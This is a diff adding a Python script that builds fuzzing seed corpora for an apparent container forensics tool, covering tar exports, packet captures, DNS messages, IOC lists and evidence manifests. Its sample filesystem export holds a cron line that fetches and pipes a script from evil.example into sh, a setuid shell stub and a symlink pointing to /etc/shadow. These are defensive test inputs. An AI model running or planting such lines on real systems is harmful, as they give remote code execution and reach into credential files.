@@ -1,0 +1,171 @@
+#!/usr/bin/env python3
+"""Writes the seed corpora in fuzz/corpus/<target>/: copies of tests/fixtures where they exist,
+and small hand-made inputs (tar exports, pcap/pcapng files, DNS messages, manifests) where the
+unit tests build theirs in code. Run once; the output is committed."""
+import hashlib
+import io
+import json
+import os
+import shutil
+import struct
+import tarfile
+
+here = os.path.dirname(os.path.abspath(__file__))
+fixtures = os.path.join(here, "..", "tests", "fixtures")
+corpus = os.path.join(here, "corpus")
+
+
+def put(target, name, data):
+    d = os.path.join(corpus, target)
+    os.makedirs(d, exist_ok=True)
+    with open(os.path.join(d, name), "wb") as f:
+        f.write(data if isinstance(data, bytes) else data.encode())
+
+
+def fixture(*parts):
+    with open(os.path.join(fixtures, *parts), "rb") as f:
+        return f.read()
+
+
+# Engine JSON.
+for name in sorted(os.listdir(os.path.join(fixtures, "engine"))):
+    if name.startswith("inspect_") or name == "containers_json.json":
+        put("container_inspect", name, fixture("engine", name))
+
+# Log frames: first byte is the piece size - 1.
+logs = fixture("evidence", "logs_multiplexed.bin")
+put("log_demux", "pieces-1.bin", b"\x00" + logs)
+put("log_demux", "pieces-7.bin", b"\x06" + logs)
+put("log_demux", "whole.bin", b"\xff" + logs)
+
+# iptables-save, /proc/net (first byte: table), conntrack.
+net = os.path.join(fixtures, "net")
+for name in sorted(os.listdir(net)):
+    data = fixture("net", name)
+    if "tables-save" in name:
+        put("iptables_save", name, data)
+    elif name.startswith("nf_conntrack"):
+        put("conntrack", name, data)
+    elif name.startswith("proc-net-"):
+        proto = name.split("-")[2]
+        selector = {"tcp": 0, "udp": 1, "raw": 2, "tcp6": 3, "udp6": 4, "raw6": 5}[proto]
+        put("proc_net", name, bytes([selector]) + data)
+
+
+# A filesystem export: a crontab, a setuid shell, a link out, a temp dropper.
+def tar_bytes(entries, fmt=tarfile.GNU_FORMAT):
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=fmt) as t:
+        for name, kind, data, mode in entries:
+            info = tarfile.TarInfo(name)
+            info.mtime = 1795683600
+            info.mode = mode
+            if kind == "dir":
+                info.type = tarfile.DIRTYPE
+                t.addfile(info)
+            elif kind == "link":
+                info.type = tarfile.SYMTYPE
+                info.linkname = data
+                t.addfile(info)
+            else:
+                info.size = len(data)
+                t.addfile(info, io.BytesIO(data))
+    return buf.getvalue()
+
+
+export = [
+    ("etc/", "dir", None, 0o755),
+    ("etc/cron.d/job", "file", b"* * * * * root wget http://evil.example/x | sh\n", 0o644),
+    ("tmp/", "dir", None, 0o1777),
+    ("tmp/x", "file", b"", 0o755),
+    ("usr/bin/sh2", "file", b"\x7fELF", 0o4755),
+    ("var/run/escape", "link", "../../../../etc/shadow", 0o777),
+]
+put("export_tar", "export-gnu.tar", tar_bytes(export))
+put("export_tar", "export-pax.tar", tar_bytes(export[:4] + [("a" * 150 + "/b", "file", b"x", 0o600)],
+                                             tarfile.PAX_FORMAT))
+
+# Capture files: Ethernet/IPv4 TCP SYN, UDP DNS query and answer; pcap and pcapng.
+def dns_message(answer):
+    name = b"\x04evil\x07example\x00"
+    m = struct.pack(">HHHHHH", 0x1234, 0x8180 if answer else 0x0100, 1, 1 if answer else 0, 0, 0)
+    m += name + struct.pack(">HH", 1, 1)
+    if answer:
+        m += b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + bytes([203, 0, 113, 66])
+    return m
+
+
+def ipv4(src, dst, proto, l4):
+    h = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), 0, 0, 64, proto, 0,
+                    bytes(src), bytes(dst))
+    return h + l4
+
+
+def ethernet(ip, ethertype=0x0800):
+    return b"\x02" + b"\0" * 5 + b"\x02\0\0\0\0\x01" + struct.pack(">H", ethertype) + ip
+
+
+c, s = [172, 18, 0, 2], [203, 0, 113, 66]
+packets = [
+    ethernet(ipv4(c, s, 6, struct.pack(">HHIIBBHHH", 40100, 4444, 1, 0, 0x50, 0x02, 1024, 0, 0))),
+    ethernet(ipv4(c, [172, 18, 0, 1], 17, struct.pack(">HHHH", 40200, 53, 8 + len(dns_message(False)), 0)
+                  + dns_message(False))),
+    ethernet(ipv4([172, 18, 0, 1], c, 17, struct.pack(">HHHH", 53, 40200, 8 + len(dns_message(True)), 0)
+                  + dns_message(True))),
+]
+pcap = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)
+for i, p in enumerate(packets):
+    pcap += struct.pack("<IIII", 1795683600 + i, 0, len(p), len(p)) + p
+put("capture_file", "flows.pcap", pcap)
+
+
+def block(kind, body):
+    body += b"\0" * (-len(body) % 4)
+    return struct.pack("<II", kind, 12 + len(body)) + body + struct.pack("<I", 12 + len(body))
+
+
+ng = block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1))
+ng += block(1, struct.pack("<HHI", 1, 0, 65535))
+for i, p in enumerate(packets):
+    ts = (1795683600 + i) * 1000000
+    ng += block(6, struct.pack("<IIIII", 0, ts >> 32, ts & 0xFFFFFFFF, len(p), len(p)) + p)
+put("capture_file", "flows.pcapng", ng)
+put("dns_message", "query.bin", dns_message(False))
+put("dns_message", "answer.bin", dns_message(True))
+
+# IOC files.
+put("ioc_file", "example.txt", """# IR-2026-042: beacon seen on web-1
+ip      203.0.113.66          # C2 from the beacon
+cidr    198.51.100.0/24       # the provider's range
+domain  evil.example          # matches evil.example and any *.evil.example
+sha256  9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08  # dropper
+2001:db8::66                  # a bare value: its type is inferred
+::ffff:203.0.113.66
+cidr 2001:db8::/32
+ip not-an-address
+EVIL.Example.
+""")
+
+# A manifest and its SHA256SUMS (split at a NUL byte), as collect writes them.
+log = b"hello\n"
+digest = hashlib.sha256(log).hexdigest()
+manifest = {"schema": "forensic.bundle/1", "tool": "ir-collect", "tool_version": "0.1.0",
+            "container_id": "0" * 64, "case_id": "IR-1",
+            "artifacts": [{"artifact": "logs", "path": "logs/stdout.log", "size": len(log),
+                           "sha256": digest, "source": "GET /v1.41/containers/x/logs"}],
+            "failures": [{"artifact": "export", "error": "not_found", "message": "gone"}]}
+manifest_text = json.dumps(manifest, indent=2).encode()
+sums = f"{digest}  logs/stdout.log\n{hashlib.sha256(manifest_text).hexdigest()}  manifest.json\n"
+put("manifest", "bundle.bin", manifest_text + b"\0" + sums.encode())
+
+# A packed bundle, as pack_bundle writes it.
+bundle = [("case-1/", "dir", None, 0o755), ("case-1/logs/", "dir", None, 0o755),
+          ("case-1/SHA256SUMS", "file", sums.encode(), 0o644),
+          ("case-1/logs/stdout.log", "file", log, 0o644),
+          ("case-1/manifest.json", "file", manifest_text, 0o644)]
+put("bundle_archive", "bundle.tar", tar_bytes(bundle, tarfile.PAX_FORMAT))
+
+# Endpoints.
+for i, text in enumerate(["unix:///var/run/docker.sock", "tcp://10.0.0.1:2376", "localhost:2375",
+                          "[2001:db8::1]:2376", "tcp://[::1]", "unix://relative", "tcp://:99999"]):
+    put("endpoint", f"e{i}.txt", text)
